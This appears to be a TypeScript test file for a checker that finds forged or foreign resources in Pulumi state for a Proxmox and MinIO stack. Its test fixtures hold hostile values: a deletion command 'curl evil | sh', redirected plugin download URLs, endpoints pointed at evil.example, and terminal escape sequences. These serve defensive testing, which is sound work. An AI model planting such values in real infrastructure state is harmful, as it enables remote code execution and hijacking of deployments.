import { checkpointOf, parseCheckpoint, type StateResource } from "../../../../site/state/checkpoint";
import { foreignParts, foreignText } from "../../../../site/state/foreign-parts";
import { removalCommands } from "../../../../site/state-store/offsite-removal";
import { exampleNames } from "../../../support/example-names";

const place = { project: "shop", stack: "prod" };
const addresses = { proxmox: "https://192.0.2.11:8006", store: "192.0.2.132:9000", names: exampleNames };
const own = "urn:pulumi:prod::shop::";
const provider = `${own}pulumi:providers:proxmoxve::proxmox`;
const address = "github://api.github.com/muhlba91/pulumi-proxmoxve";
const secret = { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", ciphertext: "v1:a:b" };
const elsewhere = "https://evil.example:8006";
const container = "proxmoxve:index/containerLegacy:ContainerLegacy";

const root = { urn: `${own}pulumi:pulumi:Stack::shop-prod`, type: "pulumi:pulumi:Stack", custom: false };

/** What an update of the program writes, as the real Pulumi does. */
const written = {
  root,
  pulumi: { urn: `${own}pulumi:providers:pulumi::default`, type: "pulumi:providers:pulumi", custom: true, id: "1" },
  provider: {
    urn: provider,
    type: "pulumi:providers:proxmoxve",
    custom: true,
    id: "2",
    inputs: {
      __internal: { pluginDownloadURL: address },
      apiToken: secret,
      endpoint: "https://192.0.2.11:8006",
      version: "8.6.0",
    },
    outputs: { apiToken: secret, endpoint: "https://192.0.2.11:8006", version: "8.6.0" },
    parent: root.urn,
  },
  component: { urn: `${own}lifeboat:guests:Container::web`, type: "lifeboat:guests:Container", custom: false },
  container: {
    urn: `${own}lifeboat:guests:Container$${container}::web-container`,
    type: container,
    custom: true,
    id: "101",
    provider: `${provider}::2`,
    inputs: { __defaults: [], description: "delete: everything", environmentVariables: {} },
  },
  commands: {
    urn: `${own}pulumi:providers:command::default_1_2_1`,
    type: "pulumi:providers:command",
    custom: true,
    id: "3",
    inputs: { __internal: {}, version: "1.2.1" },
  },
  timer: {
    urn: `${own}lifeboat:stateStore:OffsiteTimer$command:remote:Command::state-store-offsite`,
    type: "command:remote:Command",
    custom: true,
    id: "4",
    provider: `${own}pulumi:providers:command::default_1_2_1::3`,
    inputs: { create: "sudo -n sh -s", delete: removalCommands.others, stdin: secret, connection: secret },
    outputs: { create: "sudo -n sh -s", delete: removalCommands.others, stdout: "" },
  },
  restore: {
    urn: `${own}lifeboat:restores:RestoreFlow$command:local:Command::2026-11-21-web-restore`,
    type: "command:local:Command",
    custom: true,
    id: "6",
    provider: `${own}pulumi:providers:command::default_1_2_1::3`,
    inputs: { create: "lifeboat restore guest prod/web --force", update: "exit 1", logging: "stderr" },
    outputs: { create: "lifeboat restore guest prod/web --force", update: "exit 1", stdout: "{}", stderr: secret },
  },
  hostKey: {
    urn: `${own}lifeboat:stateStore:HostKey::state-store`,
    type: "lifeboat:stateStore:HostKey",
    custom: false,
    outputs: { hostKey: secret, macAddress: "BC:24:11:00:00:01" },
  },
  buckets: {
    urn: `${own}pulumi:providers:minio::state-store`,
    type: "pulumi:providers:minio",
    custom: true,
    id: "5",
    inputs: { __internal: {}, minioServer: "192.0.2.132:9000", minioSsl: "true", version: "0.17.1" },
  },
} as const;

/** A state of these resources, as it comes out of Pulumi. */
function stateOf(resources: readonly object[], pending: readonly object[] = [], latest: object = {}) {
  const deployment = { resources, pending_operations: pending, ...latest };
  return parseCheckpoint(checkpointOf(JSON.stringify({ version: 3, deployment }), "organization/shop/prod"));
}

const partsOf = (resources: readonly object[], allowed?: string) =>
  foreignParts(stateOf(resources), place, addresses, allowed);

test("what the program writes is its own [N2]", () => {
  expect(partsOf(Object.values(written))).toEqual([]);
});

test("where the settings have no store, a provider of one is foreign [N2]", () => {
  const none = { ...addresses, store: undefined };
  expect(foreignParts(stateOf([written.buckets]), place, none, undefined)).toEqual([
    { urn: written.buckets.urn, why: "its minioServer is 192.0.2.132:9000, and the settings have none" },
  ]);
});

type Name = keyof typeof written;

/** One of them with something changed. */
function forged(name: Name, change: object, part: "inputs" | "outputs" | "itself" = "itself"): object {
  const original: object & { inputs?: object; outputs?: object } = written[name];
  return part === "itself" ? { ...original, ...change } : { ...original, [part]: { ...original[part], ...change } };
}

const named = (types: string, more: object = {}): object => ({
  urn: `${own}${types}::evil`,
  type: types.split("$").at(-1),
  custom: true,
  id: "evil",
  ...more,
});

test.each<[string, object, string]>([
  ["a command", named("command:local:Command", { inputs: { delete: "touch hit" } }), "makes nothing of the type"],
  [
    "a command in a component of the program",
    named("lifeboat:stateStore:OffsiteTimer$command:local:Command"),
    "nothing",
  ],
  ["a reference to a stack", named("pulumi:pulumi:StackReference"), "makes nothing of the type"],
  [
    "code",
    named("pulumi-nodejs:dynamic:Resource", { inputs: { __provider: "exports.x" } }),
    "makes nothing of the type",
  ],
  ["a resource outside of its component", named(container), "makes nothing of the type"],
  [
    "another project",
    forged("container", { urn: written.container.urn.replace("::shop::", "::other::") }),
    "none of the project shop",
  ],
  [
    "another stack",
    forged("container", { urn: written.container.urn.replace(":prod:", ":lab:") }),
    "none of the project shop",
  ],
  ["no URN", forged("container", { urn: "evil" }), "none of the project shop"],
  ["no name", forged("container", { urn: `${own}${container}` }), "none of the project shop"],
  [
    "another type than the URN's",
    forged("container", { type: "command:local:Command" }),
    "its URN tells of another type",
  ],
  ["a component that is a resource", forged("component", { custom: true }), "makes a component of the type"],
  ["a resource that is a component", forged("container", { custom: false }), "makes a resource of the type"],
  [
    "a provider of another package",
    forged("container", { provider: `${own}pulumi:providers:evil::x::1` }),
    "its provider is none of proxmoxve",
  ],
  [
    "a provider of another stack",
    forged("container", { provider: "urn:pulumi:lab::shop::pulumi:providers:proxmoxve::x::1" }),
    "its provider is none of proxmoxve",
  ],
  ["a provider that is none", forged("container", { provider: "x" }), "its provider is none of proxmoxve"],
  [
    "a host key that is written in the open",
    forged("hostKey", { hostKey: "ssh-ed25519 AAAAevil" }, "outputs"),
    "its host key is not sealed",
  ],
  [
    "a host key with a text beside its seal",
    forged("hostKey", { hostKey: { ...secret, plaintext: "evil" } }, "outputs"),
    "its host key is not sealed",
  ],
  ["another package", named("pulumi:providers:gcp"), "no provider of this package"],
  ["a provider of another name", named("pulumi:providers:aws"), "no provider of this name"],
  [
    "a place for the plugin",
    forged("provider", { pluginDownloadURL: "http://127.0.0.1/" }, "inputs"),
    "a place to get its plugin from",
  ],
  [
    "a place below",
    forged("provider", { __internal: { pluginDownloadURL: "http://127.0.0.1/" } }, "inputs"),
    "its pluginDownloadURL",
  ],
  [
    "a place in what was read",
    forged("provider", { __internal: { pluginDownloadURL: "http://127.0.0.1/" } }, "outputs"),
    "its pluginDownloadURL",
  ],
  [
    "a place where the package names none",
    forged("commands", { __internal: { pluginDownloadURL: address } }, "inputs"),
    "its pluginDownloadURL",
  ],
  [
    "a package that is made of another",
    forged("commands", { __internal: { parameterization: {} } }, "inputs"),
    "its parameterization",
  ],
  ["sums of a plugin", forged("commands", { __internal: { pluginChecksums: {} } }, "inputs"), "its pluginChecksums"],
  ["what is internal and no object", forged("commands", { __internal: ["x"] }, "inputs"), "unknown form"],
  ["a version that is none", forged("commands", { version: {} }, "inputs"), "no text"],
  ["no verification", forged("provider", { insecure: true }, "inputs"), "does not set its insecure"],
  ["an endpoint without TLS", forged("provider", { endpoint: "http://192.0.2.66" }, "inputs"), "its endpoint"],
  ["a store without TLS", forged("buckets", { minioSsl: "false" }, "inputs"), "not be encrypted"],
  ["a store of which nothing says TLS", forged("buckets", { minioSsl: undefined }, "inputs"), "not be encrypted"],
  [
    "a node of somebody else",
    forged("provider", { endpoint: elsewhere }, "inputs"),
    `its endpoint is ${elsewhere}, and`,
  ],
  [
    "a node of somebody else in what was read",
    forged("provider", { endpoint: elsewhere }, "outputs"),
    "its endpoint is",
  ],
  ["a node that nobody can read", forged("provider", { endpoint: secret }, "inputs"), "its endpoint is something"],
  [
    "a store of somebody else",
    forged("buckets", { minioServer: "evil.example:9000" }, "inputs"),
    "its minioServer is evil.example:9000, and that of the settings 192.0.2.132:9000",
  ],
  ["another port of the store", forged("buckets", { minioServer: "192.0.2.132:9001" }, "inputs"), "its minioServer is"],
  [
    "a login in the open at the store's own address, where no host key is asked for",
    forged("timer", { connection: { host: "192.0.2.132", password: secret } }, "inputs"),
    "its connection is not sealed",
  ],
  [
    "one with a host key of its own",
    forged("timer", { connection: { host: "192.0.2.132", hostKey: "ssh-ed25519 AAAAevil" } }, "outputs"),
    "its connection is not sealed",
  ],
  [
    "a login that is only called secret",
    forged("timer", { connection: { ...secret, ciphertext: undefined, plaintext: "{}" } }, "inputs"),
    "not sealed",
  ],
  [
    "a bucket that would take its versions with it",
    named("lifeboat:stateStore:StateBucket$minio:index/s3Bucket:S3Bucket", { outputs: { forceDestroy: true } }),
    "its deletion would take everything in it",
  ],
  ["a login of no form", forged("timer", { connection: "evil.example" }, "inputs"), "not sealed"],
  [
    "a provider of another name",
    forged("provider", { urn: `${own}pulumi:providers:proxmoxve::evil` }),
    "no provider of this name",
  ],
  [
    "a default provider that needs credentials",
    forged("provider", { urn: `${own}pulumi:providers:proxmoxve::default` }),
    "no provider of this name",
  ],
  ["a provider's provider", forged("provider", { provider: `${provider}::2` }), "no provider as Pulumi"],
  ["a restore's deletion", forged("restore", { delete: "touch hit" }, "inputs"), "when it is deleted"],
  [
    "what is removed in the store's container, here",
    forged("restore", { delete: removalCommands.root }, "outputs"),
    "when it is deleted",
  ],
  ["another deletion", forged("timer", { delete: "curl evil | sh" }, "inputs"), "when it is deleted"],
  ["another deletion in what was read", forged("timer", { delete: "curl evil | sh" }, "outputs"), "when it is deleted"],
  ["a deletion that nobody can read", forged("timer", { delete: secret }, "inputs"), "when it is deleted"],
  ["variables of a command", forged("timer", { environment: { PATH: "/tmp" } }, "inputs"), "sets variables"],
  ["hooks", forged("container", { resourceHooks: { beforeDelete: ["x"] } }), "no hooks"],
  ["a view", forged("container", { viewOf: written.timer.urn }), "no hooks and no views"],
  ["variables of a provider", forged("provider", { envVarMappings: { A: "B" } }), "no hooks"],
])("%s is refused, and named [N2]", (_, resource, why) => {
  const urn = "urn" in resource ? resource.urn : "";
  expect(partsOf([root, resource])).toEqual([{ urn, why: expect.stringContaining(why) }]);
  expect(foreignParts(stateOf([], [{ type: "deleting", resource }]), place, addresses, undefined)).toHaveLength(1);
  expect(partsOf([root, { ...resource, delete: true }])).toHaveLength(1);
  expect(partsOf([root, resource], `urn:x, ${String(urn)}`)).toHaveLength(urn === "evil" ? 1 : 0);
});

test("a service that keeps the secrets is one, too [N2]", () => {
  const state = stateOf([], [], { secrets_providers: { type: "cloud", state: { url: "hashivault://evil" } } });
  expect(foreignParts(state, place, addresses, undefined)).toMatchObject([{ urn: "secrets_providers" }]);
  expect(foreignParts(state, place, addresses, "secrets_providers")).toEqual([]);
});

test("a message has ten of many, and nothing that a terminal obeys [N2]", () => {
  const parts = Array.from({ length: 12 }, (_, index) => ({ urn: `urn:${String(index)}\u001b[2J`, why: "it is evil" }));
  const told = foreignText(parts, "the state of prod").split("; ");
  expect(told).toHaveLength(11);
  expect(told[0]).toBe("the state of prod holds 12 parts that the program never makes: urn:0?[2J: it is evil");
  expect(told[10]).toBe("and 2 more");
});

const text = JSON.stringify({
  version: 3,
  checkpoint: { stack: "organization/shop/prod", latest: { resources: [written.root], pending_operations: [] } },
});

test.each([
  ["a member twice", text.replace('"custom":false', '"custom":false,"inputs":{"a":1},"inputs":{}'), "twice"],
  ["another case", text.replace('"custom":false', '"custom":false,"Type":"command:local:Command"'), "takes for type"],
  [
    "a case of what keeps it",
    text.replace('"custom":false', '"custom":false,"retainondelete":false'),
    "takes for retain",
  ],
  ["a letter that is folded", text.replace('"stack":', '"\u017ftack":"x","stack":'), "takes for stack"],
  ["a second state", text.replace('"checkpoint":', '"CHECKPOINT":{"stack":"x"},"checkpoint":'), "takes for checkpoint"],
  ["a second list", text.replace('"resources":', '"Resources":[],"resources":'), "takes for resources"],
])("a checkpoint that Pulumi reads otherwise is none: %s [N2]", (_, forgedText, why) => {
  expect(() => parseCheckpoint(forgedText)).toThrow(why);
  expect(parseCheckpoint(text).resources).toHaveLength(1);
});

test("names of resources and inputs are free [N2]", () => {
  const inputs = { URN: 1, Type: { Delete: "a:b \\" }, 'quo"te:': ":" };
  const component: StateResource = { ...written.component, inputs };
  expect(partsOf([root, component])).toEqual([]);
});
